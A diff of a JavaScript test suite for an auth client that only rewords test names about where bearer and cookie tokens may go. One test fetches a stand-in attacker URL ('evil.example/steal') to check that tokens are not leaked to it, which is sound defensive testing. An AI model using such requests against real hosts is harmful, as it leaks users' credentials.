@@ -5,7 +5,7 @@ import { credentials, fakeWorld, later } from './world.fixture.js';
 const { world, open, signedIn, statusOf } = fakeWorld();
 
 describe('tokens', () => {
-  it('go to the API alone', async () => {
+  it('are sent to the API alone', async () => {
     const client = await signedIn({ transport: 'bearer' });
     await client.fetch('https://api.test.evil.example/steal');
     await client.fetch(new Request('https://api.test:8443/steal'));
@@ -14,7 +14,7 @@ describe('tokens', () => {
     ).toEqual([null, null]);
   });
 
-  it('reach no other tab and no storage in cookie mode', async () => {
+  it('do not reach another tab or a storage in cookie mode', async () => {
     const client = await signedIn();
     await client.refresh();
     expect(
@@ -38,7 +38,7 @@ describe('tokens', () => {
     expect(tokens).toEqual(expected);
   });
 
-  it('come from a sign-in at a route of the host too, in every tab', async () => {
+  it('are also taken from a sign-in at a route of the host, in every tab', async () => {
     const [first, second] = [open({ transport: 'hybrid' }), open({ transport: 'hybrid' })];
     const user = await first.loginWith(() =>
       world.server.fetch('https://api.test/auth/login', {
@@ -57,7 +57,7 @@ describe('tokens', () => {
     expect([first.events, second.events]).toEqual([['signedIn'], ['signedIn']]);
   });
 
-  it('of a bearer client are kept in its store: the newest refresh token, and the device beyond a logout', async () => {
+  it('of a bearer client are kept in its store: the newest refresh token, and the device id even after a logout', async () => {
     const store = memoryStore();
     const client = await signedIn({ transport: 'bearer', store });
     await client.refresh();
@@ -69,7 +69,7 @@ describe('tokens', () => {
   });
 
   // T-dvn5
-  it('are there again after a restart of a bearer client', async () => {
+  it('are loaded after a restart of a bearer client', async () => {
     const store = memoryStore();
     await open({ transport: 'bearer', store }).login(credentials);
     const restarted = open({ transport: 'bearer', store });
